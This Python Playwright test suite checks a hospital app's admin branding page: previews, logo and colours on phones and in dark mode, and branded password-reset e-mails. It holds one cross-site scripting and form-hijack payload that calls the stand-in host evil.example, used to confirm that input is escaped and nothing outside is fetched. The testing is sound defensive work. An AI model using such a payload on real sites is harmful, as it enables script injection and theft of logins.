"""An administrator makes the place her hospital's own; and one who means harm gets nothing out of it."""

from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from PIL import Image, ImageDraw

from tests.journeys.demo import Demo
from tests.journeys.support import Console, mails, sign_in, violations, wait_for

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

pytestmark = pytest.mark.browser

# Of the hospital on whose look no other journey builds.
ADMIN, READER, LETTER = "Priscilla Nwosu", "Maeve Donnelly", "A new password"
ENGLISH_WELCOME = "Words of welcome on the first page, in English"
NASTY = (
    '</style></title><img src=http://evil.example/x onerror=alert(1)><form action="http://evil.example/"> url(//evil.example/x)'
)
_LOOK = """() => ({
  line: getComputedStyle(document.querySelector(".top")).borderTopColor,
  paper: getComputedStyle(document.body).backgroundColor,
  wide: document.documentElement.scrollWidth,
})"""
_LINE = "it => getComputedStyle(it).borderTopColor"
_DRESS = """() => ({
  line: getComputedStyle(document.querySelector(".top")).borderTopColor,
  button: getComputedStyle(document.querySelector(".button-primary")).backgroundColor,
  mark: document.querySelector(".mark").innerText,
  sheets: [...document.styleSheets].map(sheet => new URL(sheet.href)).map(url => url.pathname + url.search),
})"""
# What one sees where the form's fields and its button are: is it really them?
_ON_TOP = """() => [...document.querySelectorAll("main form :is([name=email], [name=password], button)")].map(it => {
  it.scrollIntoView({block: "center"});
  const box = it.getBoundingClientRect();
  return it.contains(document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2));
})"""


@pytest.fixture
def desk(chromium: "Browser") -> "Iterator[Page]":
    """A browser that must not complain, nor ask anybody but this house for anything."""
    console, asked = Console(), list[str]()
    with chromium.new_context(viewport={"width": 1280, "height": 900}) as context:
        console.listen(context)
        context.on("request", lambda request: asked.append(request.url))
        yield context.new_page()
    assert console.complaints == []
    assert {urlsplit(url).hostname for url in asked if not url.startswith(("data:", "blob:", "about:"))} <= {
        "brigid.localhost",
        "127.0.0.1",
        "localhost",
    }


def drawn(path: Path, size: tuple[int, int]) -> Path:
    """A logo: a purple disc on nothing."""
    picture = Image.new("RGBA", size, (0, 0, 0, 0))
    ImageDraw.Draw(picture).ellipse((4, 4, size[1] - 4, size[1] - 4), fill=(107, 31, 95, 255))
    picture.save(path)
    return path


def branding(page: "Page", stack: Demo) -> str:
    """Goes to the page, signed in; returns the hospital's address."""
    sign_in(page, stack.login(ADMIN))
    home = stack.hospital("brigid")
    page.goto(f"{home}admin/branding/")
    return home


def letter(page: "Page", stack: Demo, home: str) -> str:
    """Opens a fresh letter in the mailbox; returns its HTML."""
    address = stack.login(READER).email
    before = len(mails(stack, address, LETTER))
    page.goto(f"{home}sign-in/forgotten")
    page.get_by_label("Your e-mail address").fill(address)
    page.get_by_role("button", name="Send me the letter").click()
    wait_for(lambda: len(mails(stack, address, LETTER)) > before, "a letter in the new look")
    newest = mails(stack, address, LETTER)[0]
    page.goto(f"{stack.mailbox}mail/{newest['id']}")
    return str(newest["html"])


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_hospitals_differ_by_their_colours_alone(stack: Demo, chromium: "Browser", scheme: str) -> None:
    page, looks = chromium.new_page(), {}
    page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
    for slug in ("mercy", "brigid"):
        page.goto(stack.hospital(slug))
        looks[slug] = page.evaluate(_DRESS)
    page.close()
    mercy, brigid = looks["mercy"], looks["brigid"]
    assert mercy["line"] != brigid["line"]
    assert mercy["button"] != brigid["button"]
    assert mercy["mark"] != brigid["mark"]
    own = [sheet for sheet in mercy["sheets"] if sheet.startswith("/brand.css")]
    assert len(own) == 1
    assert _without_brand(mercy["sheets"]) == _without_brand(brigid["sheets"])


def _without_brand(sheets: list[str]) -> list[str]:
    return [sheet for sheet in sheets if not sheet.startswith("/brand.css")]


def test_what_she_types_is_seen_at_once_and_what_she_saves_is_worn_everywhere(
    stack: Demo, desk: "Page", chromium: "Browser", tmp_path: Path
) -> None:
    home = branding(desk, stack)
    desk.get_by_role("link", name="Logo and square picture").click()
    desk.get_by_label("A wide picture").set_input_files(drawn(tmp_path / "logo.png", (400, 100)))
    desk.get_by_role("button", name="Keep this logo").click()
    desk.get_by_alt_text("The logo as it is kept").wait_for()
    desk.goto(f"{home}admin/branding/")
    desk.get_by_label("Main colour", exact=False).first.fill("#6b1f5f")
    desk.get_by_label(ENGLISH_WELCOME).fill("Nobody waits here alone.")
    desk.get_by_text("It is not saved yet.").wait_for()
    for kind in ("page", "phone", "dark"):
        frame = desk.frame_locator(f"iframe[data-kind={kind}]")
        frame.get_by_text("Nobody waits here alone.").wait_for(state="attached")
    line = desk.frame_locator("iframe[data-kind=page]").locator(".top")
    wait_for(lambda: line.evaluate(_LINE) == "rgb(107, 31, 95)", "the new colour in the preview")
    shades = {
        k: desk.frame_locator(f"iframe[data-kind={k}]").locator("body").evaluate("it => getComputedStyle(it).backgroundColor")
        for k in ("page", "dark", "letter")
    }
    assert shades == {"page": "rgb(251, 248, 243)", "dark": "rgb(26, 24, 22)", "letter": "rgb(251, 248, 243)"}
    assert violations(desk) == []
    desk.get_by_role("button", name="Save").click()
    desk.get_by_text("The hospital's look is kept.").wait_for()
    with chromium.new_context(viewport={"width": 360, "height": 800}) as phone:
        assert_worn(phone, home)
    html = letter(desk, stack, home)
    assert "/brand/logo.jpg?v=" in html
    assert "#6b1f5f" in html
    logo = desk.frame_locator("iframe.letter").get_by_alt_text("St. Brigid Children’s")
    assert logo.evaluate("it => it.naturalWidth") == 400


def assert_worn(phone: "BrowserContext", home: str) -> None:
    """A stranger's telephone shows it, by day and in the dark."""
    page = phone.new_page()
    page.goto(home)
    page.get_by_text("Nobody waits here alone.").wait_for()
    logo = page.get_by_alt_text("St. Brigid Children’s")
    assert logo.evaluate("it => it.complete && it.naturalWidth") == 400
    seen = page.evaluate(_LOOK)
    assert seen["line"] == "rgb(107, 31, 95)"
    assert seen["wide"] == 360
    page.emulate_media(color_scheme="dark")
    assert page.evaluate(_LOOK)["paper"] == "rgb(26, 24, 22)"
    assert violations(page) == []


def test_without_scripts_a_button_shows_what_was_typed(stack: Demo, chromium: "Browser") -> None:
    with chromium.new_context(java_script_enabled=False) as context:
        page = context.new_page()
        branding(page, stack)
        page.get_by_label(ENGLISH_WELCOME).fill("Only looking.")
        page.get_by_role("button", name="Preview").click()
        page.get_by_text("It is not saved yet.").wait_for()
        page.frame_locator("iframe[data-kind=page]").get_by_text("Only looking.").wait_for(state="attached")
        page.goto(stack.hospital("brigid"))
        assert page.get_by_text("Only looking.").count() == 0


def test_the_worst_that_is_taken_covers_nothing_and_fetches_nothing(stack: Demo, desk: "Page") -> None:
    home = branding(desk, stack)
    for label in (ENGLISH_WELCOME, "At the foot of every page and letter, in English", "Words of welcome, in Spanish"):
        desk.get_by_label(label).fill(NASTY)
    desk.get_by_label("Name of the hospital").fill(NASTY[:80])
    desk.get_by_label("What it is for").first.fill(NASTY[:60])
    desk.get_by_text("It is not saved yet.").wait_for()
    desk.get_by_role("button", name="Save").click()
    desk.get_by_text("The hospital's look is kept.").wait_for()
    for path in ("", "sign-in"):
        desk.goto(f"{home}{path}")
        assert NASTY[:60] in desk.inner_text("body")
    desk.context.clear_cookies()
    desk.goto(f"{home}sign-in")
    assert desk.evaluate(_ON_TOP) == [True, True, True]
    letter(desk, stack, home)
    shown = desk.frame_locator("iframe.letter")
    assert NASTY[:60] in shown.locator("body").inner_text()
    assert shown.locator("form, script, iframe, [onerror]").count() == 0
